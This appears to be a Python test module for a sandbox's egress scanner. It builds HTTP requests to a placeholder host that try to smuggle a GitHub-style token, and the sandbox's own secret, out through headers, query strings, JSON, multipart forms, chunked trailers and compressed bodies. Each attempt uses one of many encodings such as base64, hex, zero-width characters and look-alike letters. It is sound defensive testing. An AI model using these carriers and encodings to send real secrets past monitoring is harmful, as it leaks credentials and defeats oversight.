"""Attempts to carry a secret out in what an allowed request holds: facts of other tools that were
got around in these ways. Each is sent to a host that the bottle may reach."""

import base64
import gzip
import json
import secrets
import string
import zlib

from battery import Proxied, get, nonce

HOST = "bare.example.com"
LETTERS = string.ascii_letters + string.digits


def kind_of_token():
    """Of a shape that the scanner knows; drawn anew, since none stands in the tree."""
    return "ghp_" + "".join(secrets.choice(LETTERS) for _ in range(36))


def post(body, *headers, target="/"):
    if isinstance(body, str):
        body = body.encode()
    lines = [f"POST {target} HTTP/1.1", f"Host: {HOST}", "Connection: close", *headers]
    if not any(line.startswith("Transfer-Encoding") for line in headers):
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join(lines) + "\r\n\r\n" + body.decode("latin-1")


def chunks(*pieces, trailer=""):
    return "".join(f"{len(p):x}\r\n{p}\r\n" for p in pieces) + f"0\r\n{trailer}\r\n"


def percent(text, times=1):
    for _ in range(times):
        text = "".join(f"%{ord(c):02x}" for c in text)
    return text


def compressed(data):
    return base64.b64encode(gzip.compress(data.encode())).decode()


def spellings(secret):
    """(name, how it is written) for a token of a known kind."""
    plain = secret.encode()
    for name, text in (
            ("as it is", secret), ("percent-encoded", percent(secret)),
            ("percent-encoded twice", secret.replace("_", "%255f")),
            ("base64", base64.b64encode(plain).decode()),
            ("base64 that begins elsewhere", base64.b64encode(b"u:" + plain).decode()),
            ("base64 of base64", base64.b64encode(base64.b64encode(plain)).decode()),
            ("URL-safe base64", base64.urlsafe_b64encode(b"\xff\xfe" + plain).decode()),
            ("base64 behind a data URL", "data:text/plain;base64," + base64.b64encode(plain).decode()),
            ("hex", plain.hex()), ("hex with colons", plain.hex(":")),
            ("base32", base64.b32encode(plain).decode()),
            ("base32 in lower case", base64.b32encode(plain).decode().lower()),
            ("escapes of JSON", "".join(f"\\u{c:04x}" for c in plain)),
            ("HTML entities", "".join(f"&#{c};" for c in plain)),
            ("quoted-printable", "".join(f"={c:02X}" for c in plain) + "=\r\n"),
            ("character codes", ",".join(str(c) for c in plain)),
            ("gzip in base64", compressed(secret)),
            ("UTF-16", secret.encode("utf-16-le").decode("latin-1")),
            ("zero-width spaces", "\u200b".join(secret).encode().decode("latin-1")),
            ("line ends", "\n".join((secret[:13], secret[13:]))),
            ("NUL bytes", "\0".join(secret)),
            ("look-alikes", secret.replace("p", "\u0440").encode().decode("latin-1"))):
        yield name, text


def own_spellings(secret):
    """Besides, for what the egress itself holds."""
    swapped = secret.swapcase()
    turned = str.maketrans(string.ascii_letters, string.ascii_lowercase[13:] +
                           string.ascii_lowercase[:13] + string.ascii_uppercase[13:] +
                           string.ascii_uppercase[:13])
    yield from (("in the other case", swapped), ("reversed", secret[::-1]),
                ("ROT13", secret.translate(turned)), ("with dots strewn in", ".".join(secret)),
                ("in pieces", " ".join(secret[at:at + 5] for at in range(0, len(secret), 5))))


def carriers(token, secret):
    """(name, request): where a secret may stand."""
    half, rest = secret[:20], secret[20:]
    yield "target: path segment", get(f"/{token}/{secret}", HOST)
    yield "target: query value", get(f"/{token}?q={secret}", HOST)
    yield "target: query name", get(f"/{token}?{secret}=1", HOST)
    yield "target: a bad escape beside it", get(f"/{token}?q={percent(secret)}%zz", HOST)
    yield "target: cut over the query", get(f"/{token}?a={half}&b={rest}", HOST)
    yield "target: base64 with a plus", get(
        f"/{token}?q=" + base64.b64encode(b"\xfb\xff" + secret.encode()).decode()
        .replace("+", "%2B"), HOST)
    yield "field: value", get(f"/{token}", HOST, f"X-Note: {secret}")
    yield "field: name", get(f"/{token}", HOST, f"{secret}: 1")
    yield "field: over the colon", get(f"/{token}", HOST, f"{half}: {rest}")
    yield "field: over two of them", get(f"/{token}", HOST, f"X-A: {half}", f"X-A: {rest}")
    yield "field: user agent", get(f"/{token}", HOST, f"User-Agent: agent/1 {secret}")
    yield "field: cookie", get(f"/{token}", HOST, f"Cookie: session={secret}")
    yield "body: a key of JSON", post(json.dumps({token: 1, secret: 2}))
    yield "body: a key that comes twice", post(f'{{"{token}": 0, "a": "{secret}", "a": "x"}}')
    yield "body: nested a hundred deep", post("[" * 100 + f'"{secret}", "{token}"' + "]" * 100)
    yield "body: over two strings of JSON", post(json.dumps({"t": token, "a": half, "b": rest}))
    yield "body: a broken byte beside it", post(f'{{"t": "{token}", "a": "'.encode() + b"\xff" +
                                                secret.encode() + b'"}')
    yield "body: a form", post(f"t={token}&key={percent(secret)}",
                               "Content-Type: application/x-www-form-urlencoded")
    yield "body: an image of a form", post(
        "--b\r\nContent-Disposition: form-data; name=f; filename=a.png\r\nContent-Type: image/png"
        f"\r\n\r\n\x01\x02{secret}\r\n--b--\r\n{token}", "Content-Type: multipart/form-data; boundary=b")
    yield "body: a file's name", post(
        f"--b\r\nContent-Disposition: form-data; name=f; filename={secret}\r\n\r\n{token}\r\n--b--\r\n",
        "Content-Type: multipart/form-data; boundary=b")
    yield "body: octets", post(b"\0\1\2" + secret.encode(), target=f"/{token}")
    yield "body: chunks of one byte", post(chunks(*secret, " "), "Transfer-Encoding: chunked",
                                           target=f"/{token}")
    yield "body: trailer", post(chunks(token, trailer=f"X-Sum: {secret}\r\n"), "TE: trailers",
                                "Transfer-Encoding: chunked", target=f"/{token}")
    yield "body: Content-Encoding gzip", post(gzip.compress(secret.encode()),
                                              "Content-Encoding: GZIP", target=f"/{token}")
    yield "body: Content-Encoding in a list", post(
        zlib.compress(gzip.compress(secret.encode())), "Content-Encoding: gzip, Deflate",
        target=f"/{token}")
    yield "body: gzip that nobody declared", post(gzip.compress(secret.encode()),
                                                  target=f"/{token}")
    yield "body: an encoding that nobody knows", post(secret[::-1], "Content-Encoding: reversed",
                                                      target=f"/{token}")
    yield "body: MCP arguments", post(json.dumps({
        "jsonrpc": "2.0", "id": 1, "method": "tools/call",
        "params": {"name": "note", "arguments": {secret: token}}}))


def content(world):
    make = Proxied(world)

    def attempt(name, request, token):
        return make.tunnel(name, f"{HOST}:443", request, token, claim="content")
    secret = kind_of_token()
    for name, _ in carriers("", secret):
        token = nonce()
        request = dict(carriers(token, secret))[name]
        yield attempt(f"a token in the {name}", request, token)
    for name, text in spellings(secret):
        token = nonce()
        yield attempt(f"a token, {name}", post(text.encode("latin-1"), target=f"/{token}"), token)
    for name, text in (*spellings(world.token), *own_spellings(world.token)):
        token = nonce()
        yield attempt(f"the bottle's own secret, {name}",
                      post(text.encode("latin-1"), target=f"/{token}"), token)
